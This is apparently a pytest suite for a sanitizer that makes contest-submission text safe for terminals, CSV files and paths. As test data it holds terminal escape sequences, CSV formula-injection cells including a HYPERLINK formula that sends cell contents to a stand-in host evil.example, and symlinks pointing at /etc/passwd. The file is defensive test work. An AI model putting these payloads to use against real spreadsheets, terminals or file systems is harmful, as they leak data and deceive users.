"""pgolf.sanitize: submission text made safe for a terminal, a CSV cell (read back by Python's csv module,
and by LibreOffice headless where it is installed) and a path (links resolved inside the folder only)."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pgolf.sanitize import PathEscape, csv_cell, csv_row, inside, terminal

# What hostile folder names held: a title change (OSC), a cleared screen (CSI), an 8-bit CSI, a bidi override.
HOSTILE = ["\x1b]0;pwned\x07record", "\x1b[2J\x1b[Hclear", "\x9b31mred", "abc\u202eexe.txt", "bell\x07", "nul\x00"]


@pytest.mark.parametrize("text", HOSTILE)
def test_terminal_text_holds_no_control_character_and_shows_what_was_there(text):
    out = terminal(text)
    assert not any(unicodedata.category(c) == "Cc" or c == "\u202e" for c in out)
    assert "\\x" in out or "\\u" in out


def test_terminal_text_keeps_ordinary_text_and_optionally_newlines():
    assert terminal("2026-03-20_10L_Int5MLP — ünïcode ✓") == "2026-03-20_10L_Int5MLP — ünïcode ✓"
    assert terminal("a\nb") == "a\\x0ab" and terminal("a\nb", keep_newlines=True) == "a\nb"
    assert terminal("\x1b[2J") == "\\x1b[2J"


@given(st.text())
def test_terminal_text_never_holds_a_control_character_and_printable_text_is_unchanged(text):
    out = terminal(text)
    assert not any(unicodedata.category(c) == "Cc" for c in out)
    if not any(unicodedata.category(c) == "Cc" or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
               for c in text):
        assert out == text


CELLS = {  # cell -> what the CSV must hold
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1": "'=1+1", "@SUM(1,1)": "'@SUM(1,1)", "+1+1": "'+1+1", "-1+1": "'-1+1", "\t=1+1": "'\t=1+1",
    "\r=1+1": "\\x0d=1+1", "a\r\nb": "a\\x0d\nb", "\n=1+1": "'\n=1+1", "-inf": "'-inf", "-": "'-",
    "-1.25": "-1.25", "+3": "+3", "1e3": "1e3", "plain": "plain", "a=b": "a=b",
}


def test_csv_cells_that_would_be_formulas_get_a_quote_and_numbers_stay_numbers():
    assert {k: csv_cell(k) for k in CELLS} == CELLS
    assert csv_cell(-1.5) == -1.5 and csv_cell(3) == 3 and csv_cell(None) is None
    assert csv_row({"folder": "=1+1", "bpb": -0.25}) == {"folder": "'=1+1", "bpb": -0.25}


def _written(rows: list[dict]) -> str:
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(csv_row(r) for r in rows)
    return buf.getvalue()


def test_a_written_csv_read_back_by_pythons_csv_module_holds_no_formula():
    rows = [{"folder": cell, "val_bpb": -1.25, "note": cell} for cell in CELLS]
    back = list(csv.DictReader(io.StringIO(_written(rows), newline="")))
    assert [r["folder"] for r in back] == list(CELLS.values())
    for cell in (r["folder"] for r in back):
        if cell.startswith(("=", "@", "+", "-", "\t", "\r")):
            float(cell)  # only a number may start so
    assert {r["val_bpb"] for r in back} == {"-1.25"}


@given(st.text())
def test_no_sanitized_cell_starts_a_formula_unless_it_is_a_finite_number(text):
    out = csv_cell(text)
    if out.startswith(("=", "+", "-", "@", "\t", "\r")):
        assert float(out) == float(out)  # parses, and is not NaN
    kept = "\t".join(terminal(part, keep_newlines=True) for part in text.split("\t"))  # newlines, tabs kept
    assert out in (kept, "'" + kept)


SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed here (apt-get install libreoffice-calc-nogui)")
def test_libreoffice_evaluates_no_formula_from_a_sanitized_csv(tmp_path):
    # Control column: the same cells unsanitized, to show this LibreOffice does evaluate formulas on import.
    formulas = ["=1+1", "@SUM(1,1)", "+1+1", "=HYPERLINK(\"http://evil.example\",\"x\")"]
    lines = ["raw,safe,number"] + [f'"{f.replace(chr(34), chr(34) * 2)}","{csv_cell(f).replace(chr(34), chr(34) * 2)}",-1.25'
                                    for f in formulas]
    src = tmp_path / "cells.csv"
    src.write_text("\n".join(lines) + "\n")
    out_dir = tmp_path / "out"
    env = {**os.environ, "HOME": str(tmp_path)}  # a profile of its own
    done = subprocess.run([SOFFICE, "--headless", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1",
                           "--infilter=CSV:44,34,76,1,,0,false,false,false,false,false,-1,true", "--outdir", str(out_dir),
                           str(src)], capture_output=True, text=True, timeout=180, env=env)
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader((out_dir / "cells.csv").read_text().splitlines()))
    assert rows[0]["raw"] == "2"  # the control: an unsanitized formula was evaluated
    for formula, row in zip(formulas, rows, strict=True):
        assert row["safe"].lstrip("'") == formula  # the text itself, not a computed value
        assert float(row["number"]) == -1.25


def test_a_link_out_of_the_folder_is_refused_naming_it_and_links_inside_resolve(tmp_path):
    folder = tmp_path / "record"
    (folder / "sub").mkdir(parents=True)
    (folder / "train_gpt.py").write_text("print('hi')\n")
    (folder / "alias.py").symlink_to("train_gpt.py")
    (folder / "passwd.py").symlink_to("/etc/passwd")
    (folder / "up").symlink_to("..")
    assert inside(folder, "alias.py") == (folder / "train_gpt.py").resolve()
    assert inside(folder, folder / "sub") == (folder / "sub").resolve()
    with pytest.raises(PathEscape, match=r"passwd\.py is a link to /etc/passwd, outside the folder .*record"):
        inside(folder, "passwd.py")
    with pytest.raises(PathEscape, match=r"up is a link to \.\., outside the folder"):
        inside(folder, "up/record/../../etc")
    with pytest.raises(PathEscape, match="resolves to"):
        inside(folder, Path("/etc/passwd"))
